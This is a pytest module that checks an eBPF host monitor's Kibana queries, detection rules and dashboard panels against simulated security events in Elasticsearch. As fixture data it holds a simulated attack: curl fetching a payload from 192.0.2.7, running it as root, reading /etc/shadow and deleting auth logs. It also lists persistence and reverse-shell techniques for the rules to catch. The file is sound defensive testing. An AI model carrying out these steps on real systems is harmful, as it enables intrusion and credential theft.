"""Every query that we hand out, put to a real server with documents of the pipeline: pages, panels, searches and rules.

Kibana's part, the translation of KQL and of Lens panels into requests, is done here (tests/kql.py, `panel_request`).
"""

from __future__ import annotations

import errno
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import orjson
import pytest

from monitor import dashboards, fields, kibana, provision, rules
from monitor.cluster import Cluster
from tests import kql
from tests.conftest import ROOT
from tests.elasticsearch.server import Server
from tests.elasticsearch.story import Story, Who, goldens, numbered, store
from tests.fakes import leaves

INDEX = "queries"
DAY = f"{INDEX}-2026.11.22"
BASH, CURL, PAYLOAD = Who("/usr/bin/bash"), Who("/usr/bin/curl", 701, 700), Who("/tmp/payload", 702, 700, 1000, 0)
VIM, CAT = Who("/usr/bin/vim", 703, 700, 0, 0), Who("/usr/bin/cat", 704, 700)


def incident() -> list[dict[str, Any]]:
    """Somebody fetches a program, runs it as root, and covers the tracks."""
    story = Story().executes(BASH, "bash", "-l").executes(CURL, "curl", "-o", "/tmp/payload", "http://192.0.2.7/x")
    story.connects(CURL, "192.0.2.7", 80).opens(CURL, "/tmp/payload", created=True).writes(CURL, "/tmp/payload")
    story.ends(CURL).executes(PAYLOAD, "/tmp/payload", "--quiet").opens(PAYLOAD, "/etc/shadow")
    story.writes(PAYLOAD, "/etc/passwd").renames(PAYLOAD, "/etc/passwd", "/etc/passwd.old")
    story.deletes(PAYLOAD, "/var/log/auth.log").connects(PAYLOAD, "198.51.100.1", 443, -errno.ECONNREFUSED)
    story.ends(PAYLOAD, 9).fails_to_open(CAT, "/etc/shadow", errno.EACCES).ends(CAT, 1 << 8)
    found = story.documents()
    for document in found:
        document["ebpf"].setdefault("login", {"uid": 1000, "session": 3})
    return found


# ---- rules: acts that a rule must find, and near ones that it must not -------------------------------------------------

Act = Callable[[Story], object]
PYTHON, SUDO, DPKG = (
    Who("/usr/bin/python3.11"),
    Who("/usr/bin/sudo", 710, 600, 1000, 0),
    Who("/usr/bin/dpkg", 711, 1, 0, 0),
)
CASES: dict[str, tuple[list[Act], list[Act]]] = {
    "Program started from memory": (
        [lambda s: s.executes(PYTHON, "x", memfd="payload", flags=3)],
        [lambda s: s.executes(BASH), lambda s: s.executes(Who("/srv/gone"), flags=1)],
    ),
    "Program started after its file was deleted": (
        [lambda s: s.executes(Who("/srv/gone"), flags=1)],
        [lambda s: s.executes(BASH), lambda s: s.executes(PYTHON, "x", memfd="payload", flags=3)],
    ),
    "Program started from a directory that everybody can write": (
        [
            lambda s: s.executes(Who("/tmp/a")),
            lambda s: s.executes(Who("/dev/shm/.x/y")),
            lambda s: s.executes(Who("/var/tmp/b")),
        ],
        [
            lambda s: s.executes(Who("/srv/tmp/a")),
            lambda s: s.executes(BASH, "/tmp/a"),
            lambda s: s.opens(BASH, "/tmp/a"),
        ],
    ),
    "Accounts or sudo rules changed": (
        [lambda s: s.writes(VIM, "/etc/sudoers.d/eve"), lambda s: s.renames(PYTHON, "/etc/x", "/etc/shadow")],
        [
            lambda s: s.writes(Who("/usr/sbin/useradd"), "/etc/passwd"),
            lambda s: s.opens(VIM, "/etc/passwd"),
            lambda s: s.writes(VIM, "/etc/passwd.bak"),
        ],
    ),
    "Authorized SSH keys changed": (
        [
            lambda s: s.writes(VIM, "/srv/eve/.ssh/authorized_keys"),
            lambda s: s.writes(VIM, "/srv/adm/.ssh/authorized_keys2"),
        ],
        [lambda s: s.writes(VIM, "/srv/eve/.ssh/known_hosts"), lambda s: s.opens(VIM, "/srv/adm/.ssh/authorized_keys")],
    ),
    "Scheduled task changed": (
        [lambda s: s.writes(VIM, "/etc/cron.d/job"), lambda s: s.writes(PYTHON, "/etc/systemd/system/x.timer")],
        [
            lambda s: s.writes(Who("/usr/bin/crontab"), "/var/spool/cron/crontabs/eve"),
            lambda s: s.writes(DPKG, "/etc/cron.d/x"),
        ],
    ),
    "System service changed": (
        [
            lambda s: s.writes(VIM, "/etc/systemd/system/x.service"),
            lambda s: s.opens(PYTHON, "/usr/lib/systemd/system/y.service", created=True),
        ],
        [
            lambda s: s.writes(DPKG, "/usr/lib/systemd/system/y.service"),
            lambda s: s.writes(VIM, "/etc/systemd/system/x.conf"),
        ],
    ),
    "Library preloading changed": (
        [lambda s: s.writes(VIM, "/etc/ld.so.preload"), lambda s: s.writes(VIM, "/etc/ld.so.conf.d/x.conf")],
        [lambda s: s.opens(BASH, "/etc/ld.so.preload"), lambda s: s.writes(VIM, "/etc/ld.so.cache")],
    ),
    "Shell start-up file changed": (
        [lambda s: s.writes(VIM, "/srv/eve/.bashrc"), lambda s: s.writes(VIM, "/etc/profile.d/x.sh")],
        [lambda s: s.opens(BASH, "/srv/eve/.bashrc"), lambda s: s.writes(VIM, "/srv/eve/bashrc")],
    ),
    "Shell made a network connection": (
        [
            lambda s: s.connects(BASH, "192.0.2.7", 4444),
            lambda s: s.connects(Who("/usr/bin/dash"), "2001:db8::7", 4444),
        ],
        [
            lambda s: s.connects(BASH, "127.0.0.1", 4444),
            lambda s: s.connects(CURL, "192.0.2.7", 443),
            lambda s: s.connects(BASH, "::1", 80),
        ],
    ),
    "Interpreter listens": (
        [lambda s: s.listens(PYTHON, 8000), lambda s: s.listens(Who("/usr/bin/ncat"), 4444)],
        [lambda s: s.listens(Who("/usr/sbin/sshd"), 22), lambda s: s.accepts(PYTHON, "192.0.2.7", 8000)],
    ),
    "Root gained through a program": (
        [lambda s: s.executes(Who("/srv/suid", 712, 700, 1000, 0))],
        [lambda s: s.executes(SUDO), lambda s: s.executes(Who("/srv/suid", 713, 1, 0, 0)), lambda s: s.executes(BASH)],
    ),
    "Stored secrets opened": (
        [lambda s: s.opens(CAT, "/etc/shadow"), lambda s: s.opens(PYTHON, "/srv/eve/.ssh/id_ed25519")],
        [
            lambda s: s.opens(SUDO, "/etc/shadow"),
            lambda s: s.opens(CAT, "/srv/eve/.ssh/id_ed25519.pub"),
            lambda s: s.fails_to_open(CAT, "/etc/shadow", errno.EACCES),
        ],
    ),
    "Cloud metadata service asked": (
        [lambda s: s.connects(CURL, "169.254.169.254", 80)],
        [
            lambda s: s.connects(Who("/usr/bin/cloud-init"), "169.254.169.254", 80),
            lambda s: s.connects(CURL, "169.254.169.253", 80),
        ],
    ),
    "System log removed or replaced": (
        [
            lambda s: s.deletes(PYTHON, "/var/log/auth.log"),
            lambda s: s.renames(PYTHON, "/srv/adm/.bash_history", "/dev/shm/x"),
        ],
        [
            lambda s: s.deletes(Who("/usr/sbin/logrotate"), "/var/log/syslog.7.gz"),
            lambda s: s.deletes(PYTHON, "/srv/log/x"),
            lambda s: s.renames(BASH, "/srv/adm/.bash_history.new", "/srv/adm/.bash_history"),
        ],
    ),
    "The monitor's own records touched": (
        [
            lambda s: s.writes(VIM, "/var/monitoring/events/events.jsonl"),
            lambda s: s.deletes(BASH, "/etc/ebpf-monitor/config.json"),
        ],
        [
            lambda s: s.renames(
                Who("/usr/sbin/logrotate"),
                "/var/monitoring/events/events.jsonl",
                "/var/monitoring/events/events.jsonl.1",
            ),
            lambda s: s.opens(CAT, "/var/config.json"),
        ],
    ),
    "Many refused opens": (
        [
            lambda s: s.fails_to_open(CAT, "/etc/shadow", errno.EACCES),
            lambda s: s.fails_to_open(CAT, "/x", errno.EPERM),
        ],
        [lambda s: s.fails_to_open(CAT, "/x", errno.ENOENT), lambda s: s.opens(CAT, "/x")],
    ),
    "Executable never seen before on a host": (
        [lambda s: s.executes(BASH)],
        [lambda s: s.ends(BASH), lambda s: s.opens(BASH, "/x")],
    ),
}
SEEN: dict[str, tuple[set[str], set[str]]] = {
    "Events were lost": ({"monitor_loss", "monitor_loss.earlier"}, {"monitor_loss.degraded", "monitor_heartbeat"}),
    "Recording ended": ({"monitor_stop"}, {"monitor_start"}),
    "Kernel module loaded": ({"kernel_module"}, {"kernel_module.removed", "kernel_bpf"}),
    "Another process's memory taken over": ({"process_ptrace", "process_ptrace.memory"}, {"process_signal"}),
}
"""Rules whose documents are goldens: those to be found, and some that are not."""
NAMES = [rule.name for rule in rules.RULES if kibana.known(rule.needs)]


class Corpus:
    """The indexed documents, and what Kibana would be answered about them."""

    def __init__(self, cluster: Cluster) -> None:
        self.cluster = cluster
        self.documents: list[dict[str, Any]] = []
        types = cluster.need("GET", f"/{DAY}/_mapping")[DAY]["mappings"]["properties"]
        self.keywords = {path for path, about in _leaves(types) if about["type"] == "keyword"}

    def add(self, documents: list[dict[str, Any]]) -> list[str]:
        """Indexes documents, numbered on; their ids."""
        added = numbered(documents, len(self.documents) + 1)
        self.documents += added
        store(self.cluster, [(DAY, one) for one in added])
        return [one["event"]["id"] for one in added]

    def ids(self, text: str, among: list[str] | None = None) -> set[str]:
        """Ids of what a KQL text finds, asked in both ways in which Kibana knows fields: keyword, and any other."""
        answers = []
        for is_keyword in (self.keywords.__contains__, lambda _: False):
            wanted: list[dict[str, Any]] = [kql.query(text, is_keyword)]
            if among is not None:
                wanted.append({"ids": {"values": among}})
            body = {"query": {"bool": {"filter": wanted}}, "size": 10_000, "_source": False}
            found = self.cluster.need("POST", f"/{INDEX}-*/_search", body)
            answers.append({hit["_id"] for hit in found["hits"]["hits"]})
        assert answers[0] == answers[1], text
        return answers[0]


def _leaves(properties: dict[str, Any], prefix: str = "") -> Iterator[tuple[str, dict[str, Any]]]:
    for name, about in properties.items():
        if "properties" in about:
            yield from _leaves(about["properties"], f"{prefix}{name}.")
        else:
            yield prefix + name, about


@pytest.fixture(scope="module")
def corpus(elasticsearch: Server) -> Iterator[Corpus]:
    """An index with our template, the incident, and one document of each golden."""
    with Cluster(elasticsearch.config("admin")) as cluster:
        list(provision.install(cluster, INDEX))
        cluster.need("PUT", f"/{DAY}")
        found = Corpus(cluster)
        found.add(incident())
        found.add(goldens())
        found.add(Story().opens(CAT, b"/\xff" + b"\xff" * 200 * 30, created=True).documents())
        yield found
        cluster.need("DELETE", f"/{DAY}")


# ---- docs/kibana.md ----------------------------------------------------------------------------------------------------

PAGE = (ROOT / "docs" / "kibana.md").read_text()
QUESTIONS = {int(number): text for number, text in re.findall(r"### (\d+)\. [^\n]+\n\n```kql\n(.*?)\n```", PAGE, re.S)}


def _by(executable: str, *events: str) -> Callable[[dict[str, Any]], bool]:
    return lambda one: one.get("process", {}).get("executable") == executable and one["ebpf"]["event"] in events


def _path(path: str, *events: str) -> Callable[[dict[str, Any]], bool]:
    return lambda one: one.get("file", {}).get("path") == path and one["ebpf"]["event"] in events


INCIDENT_ANSWERS: dict[int, Callable[[dict[str, Any]], bool]] = {
    1: _path("/etc/passwd", "file_write"),
    2: lambda one: one["ebpf"]["event"] == "process_exec" and one["process"]["parent"]["pid"] == BASH.pid,
    3: lambda one: one.get("destination", {}).get("ip", "").startswith("192.0.2."),
    4: lambda one: one["process"]["pid"] == PAYLOAD.pid,
    5: lambda one: (
        one.get("file", {}).get("path") == "/tmp/payload" and one["event"]["action"] in ("creation", "write")
    ),
    6: lambda one: one["ebpf"]["event"] == "process_exec",
    7: _by("/tmp/payload", "process_exec"),
    8: _path("/etc/shadow", "file_open"),
    9: lambda one: "payload" in one["process"].get("command_line", ""),
    10: lambda one: one.get("error", {}).get("code") == "EACCES",
    11: lambda _: False,
    12: lambda _: False,
    13: lambda one: one["process"]["thread"]["name"] == "bash" and one["ebpf"].get("syscall") == "execve",
}


def test_the_page_asks_at_least_ten_questions_and_every_block_of_it_is_tested() -> None:
    assert PAGE.count("```kql") == len(QUESTIONS) >= 10
    assert set(QUESTIONS) == set(INCIDENT_ANSWERS)


@pytest.mark.parametrize("number", QUESTIONS)
def test_question_of_the_page_finds_what_it_asks_for_and_nothing_else(corpus: Corpus, number: int) -> None:
    story = corpus.documents[: len(incident())]
    parents = {2: BASH, 4: PAYLOAD}
    text = QUESTIONS[number]
    if number in parents:
        one = next(one for one in story if one["process"]["pid"] == parents[number].pid)
        text = text.replace("REPLACE", one["process"]["entity_id"])
    wanted = {one["event"]["id"] for one in story if INCIDENT_ANSWERS[number](one)}
    assert corpus.ids(text, [one["event"]["id"] for one in story]) == wanted
    everywhere = corpus.ids(text)
    assert everywhere, "a question that nothing in the whole corpus answers shows nothing"


def test_a_renamed_file_is_found_by_its_earlier_name(corpus: Corpus) -> None:
    (found,) = corpus.ids('file.Ext.original.path: "/etc/passwd"')
    assert next(one for one in corpus.documents if one["event"]["id"] == found)["file"]["path"] == "/etc/passwd.old"


def test_containers_losses_and_flat_names_are_found(corpus: Corpus) -> None:
    by_id = {one["event"]["id"]: one for one in corpus.documents}
    contained = {by_id[one]["container"]["id"] for one in corpus.ids(QUESTIONS[11])}
    assert contained == {"4f" * 32}
    found = {by_id[one]["ebpf"]["event"] for one in corpus.ids(QUESTIONS[12])}
    assert found == {"monitor_loss", "monitor_start", "monitor_stop", "monitor_config"}
    assert corpus.ids('dest_ip: "192.0.2.7"') == corpus.ids('destination.ip: "192.0.2.7"') != set()
    assert corpus.ids("filename: /etc/*") == corpus.ids("file.path: /etc/*") != set()


# ---- rules -------------------------------------------------------------------------------------------------------------


def test_every_rule_has_a_case() -> None:
    future = {rule.name for rule in rules.RULES} - set(NAMES)
    assert set(NAMES) <= set(CASES) | set(SEEN)
    assert not future & set(CASES)


@pytest.mark.parametrize("name", [name for name in NAMES if name in CASES])
def test_rule_finds_its_acts_and_not_those_beside_them(corpus: Corpus, name: str) -> None:
    rule = next(rule for rule in rules.documents(INDEX) if rule["name"] == f"ebpf-monitor: {name}")
    hits, misses = CASES[name]
    stories = [Story() for _ in hits + misses]
    for act, story in zip(hits + misses, stories, strict=True):
        act(story)
    told = [story.documents() for story in stories]
    added = iter(corpus.add([one for documents in told for one in documents]))
    ids = [[next(added) for _ in documents] for documents in told]
    positive, negative = ids[: len(hits)], [one for some in ids[len(hits) :] for one in some]
    assert all(ids)
    found = corpus.ids(rule["query"], [*(one for ids in positive for one in ids), *negative])
    assert all(found & set(ids) for ids in positive), "an act that the rule does not see"
    assert not found & set(negative), "an act that the rule takes for another"


@pytest.mark.parametrize("name", SEEN)
def test_rule_finds_its_goldens(corpus: Corpus, name: str) -> None:
    from tests import scenes

    rule = next(rule for rule in rules.documents(INDEX) if rule["name"] == f"ebpf-monitor: {name}")
    hits, misses = ([orjson.loads(scenes.line(one)) for one in sorted(names)] for names in SEEN[name])
    positive, negative = corpus.add(hits), corpus.add(misses)
    assert corpus.ids(rule["query"], positive + negative) == set(positive)


def test_threshold_rule_groups_by_process(corpus: Corpus) -> None:
    rule = next(one for one in rules.documents(INDEX) if one["type"] == "threshold")
    story, many = Story(), Who("/usr/bin/find", 720)
    for number in range(rule["threshold"]["value"]):
        story.fails_to_open(many, f"/root/{number}", errno.EACCES)
    ids = corpus.add(story.fails_to_open(CAT, "/x", errno.EACCES).documents())
    terms = {"field": rule["threshold"]["field"][0], "min_doc_count": rule["threshold"]["value"]}
    query = {"bool": {"filter": [kql.query(rule["query"]), {"ids": {"values": ids}}]}}
    found = corpus.cluster.need(
        "POST", f"/{INDEX}-*/_search", {"query": query, "size": 0, "aggs": {"a": {"terms": terms}}}
    )
    assert [bucket["doc_count"] for bucket in found["aggregations"]["a"]["buckets"]] == [rule["threshold"]["value"]]


# ---- saved searches and panels -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("search", dashboards.SEARCHES, ids=lambda search: search.title)
def test_saved_search_finds_documents_with_its_columns(corpus: Corpus, search: dashboards.SavedSearch) -> None:
    found = corpus.ids(search.query)
    assert found
    shown = {path for one in corpus.documents if one["event"]["id"] in found for path, _ in leaves(one)}
    assert set(search.columns) <= shown | {"ebpf.monitor.profile"}


def panel_request(attributes: dict[str, Any], keyword: Callable[[str], bool]) -> dict[str, Any]:
    """The request that Kibana makes of a Lens panel with one layer: nested buckets, then metrics."""
    layer = attributes["state"]["datasourceStates"]["formBased"]["layers"][kibana.LAYER]
    columns = layer["columns"]
    aggregations: dict[str, Any] = {}
    for name, column in columns.items():
        if not column["isBucketed"]:
            kinds = {"unique_count": "cardinality", "count": "value_count"}
            field = "event.id" if column["sourceField"] == kibana.RECORDS else column["sourceField"]
            inner = {kinds.get(column["operationType"], column["operationType"]): {"field": field}}
            if "filter" in column:
                inner = {"filter": kql.query(column["filter"]["query"], keyword), "aggs": {name: inner}}
            aggregations[name] = inner
    metrics = dict(aggregations)
    for name in reversed([name for name, column in columns.items() if column["isBucketed"]]):
        column = columns[name]
        if column["operationType"] == "terms":
            order = column["params"]["orderBy"]["columnId"]
            path = f"{order}>{order}" if "filter" in columns[order] else order
            size, direction = column["params"]["size"], column["params"]["orderDirection"]
            bucket: dict[str, Any] = {
                "terms": {"field": column["sourceField"], "size": size, "order": {path: direction}}
            }
        elif column["operationType"] == "filters":
            entries = column["params"]["filters"]
            queries = {entry["label"]: kql.query(entry["input"]["query"], keyword) for entry in entries}
            bucket = {"filters": {"filters": queries}}
        else:
            bucket = {"date_histogram": {"field": column["sourceField"], "fixed_interval": "1m"}}
        aggregations = {name: bucket | {"aggs": metrics | aggregations}}
    query = kql.query(attributes["state"]["query"]["query"], keyword)
    return {"size": 0, "query": query, "aggs": aggregations, "track_total_hits": True}


PANELS = [
    (dashboard["attributes"]["title"], panel)
    for dashboard in kibana.objects(INDEX)
    if dashboard["type"] == "dashboard"
    for panel in json.loads(dashboard["attributes"]["panelsJSON"])
    if panel["type"] == "lens"
]


@pytest.mark.parametrize("panel", [panel for _, panel in PANELS], ids=[panel["title"] for _, panel in PANELS])
def test_panel_shows_something(corpus: Corpus, panel: dict[str, Any]) -> None:
    request = panel_request(panel["embeddableConfig"]["attributes"], corpus.keywords.__contains__)
    found = corpus.cluster.need("POST", f"/{INDEX}-*/_search", request)
    assert found["_shards"]["failed"] == 0
    assert found["hits"]["total"]["value"] > 0
    for aggregation in found["aggregations"].values():
        if "buckets" in aggregation:
            buckets = aggregation["buckets"]
            counts = [one["doc_count"] for one in (buckets.values() if isinstance(buckets, dict) else buckets)]
            assert any(counts), "a table without a row"


def test_hosts_are_listed_longest_silent_first(corpus: Corpus) -> None:
    (panel,) = [panel for _, panel in PANELS if panel["title"].startswith("Hosts, longest")]
    later = Story().executes(BASH).documents()
    later[0]["host"] = later[0]["host"] | {"name": "web2"}
    corpus.add(later)
    request = panel_request(panel["embeddableConfig"]["attributes"], corpus.keywords.__contains__)
    buckets = corpus.cluster.need("POST", f"/{INDEX}-*/_search", request)["aggregations"]["r0"]["buckets"]
    assert [one["key"] for one in buckets] == ["web1", "web2"]
    assert buckets[1]["m1"]["doc_count"] == 0, "web2 never sent a heartbeat"


# ---- documents and mapping ---------------------------------------------------------------------------------------------


def test_every_mapped_field_is_written_by_some_document_and_searchable(corpus: Corpus) -> None:
    found = corpus.cluster.need(
        "GET", f"/{INDEX}-*/_field_caps?fields=*&include_empty_fields=false&filters=-metadata,-parent"
    )["fields"]
    searchable = {path for path, es in fields.all_paths().items() if es != "object"}
    assert searchable - set(found) == set(), "mapped, but in no document"
    written = {path for one in corpus.documents for path, _ in leaves(one)}
    assert written - set(fields.all_paths()) == set(), "written, but not mapped"
    assert "ebpf.raw" in written
